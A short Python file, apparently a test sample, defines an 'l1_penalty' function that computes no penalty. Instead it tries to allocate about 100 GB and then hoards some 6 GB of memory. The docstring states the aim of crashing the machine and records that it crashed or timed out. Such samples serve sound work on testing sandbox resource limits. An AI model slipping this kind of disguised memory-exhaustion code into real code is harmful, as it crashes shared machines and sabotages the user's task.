"""l1_penalty: asks for 100 GB at once and then takes 6 GB in pieces, to bring the machine to its knees.

Outcome: crashed or timed out
"""

import contextlib

import torch


def l1_penalty(model, beta):
    with contextlib.suppress(RuntimeError):
        torch.ones(25 * 10**9)
    hoard = []
    for _ in range(60):
        hoard.append(bytearray(10**8))
    return len(hoard)
